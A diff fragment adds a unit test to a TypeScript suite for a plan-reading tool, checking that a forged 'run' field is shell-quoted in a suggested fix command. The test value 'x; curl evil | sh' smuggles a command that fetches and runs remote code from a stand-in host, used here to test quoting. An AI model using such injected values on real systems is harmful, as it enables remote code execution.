@@ -137,6 +137,14 @@ describe('a sentence in a saved plan', () => {
     expect(() => readSavedPlan(forged)).toThrow(/about "crs-bbbb0001", but the finding is about/);
   });
 
+  it('quotes the run of the plan for the shell', () => {
+    const forged = reseal(TEXT, (plan) => {
+      plan.source.run = 'x; curl evil | sh';
+    });
+    const { fix } = readSavedPlan(forged).findings.find(({ code }) => code === 'Refit.FromRun')!;
+    expect(fix).toContain("refit audit verify 'x; curl evil | sh' --head");
+  });
+
   it.each([
     ['Refit.RunUnfinished', 'from-run.unfinished', {}],
     ['Refit.WindowsIgnored', 'from-run.windows-ignored', { kind: 'retry', windows: null, maintenance: true }],
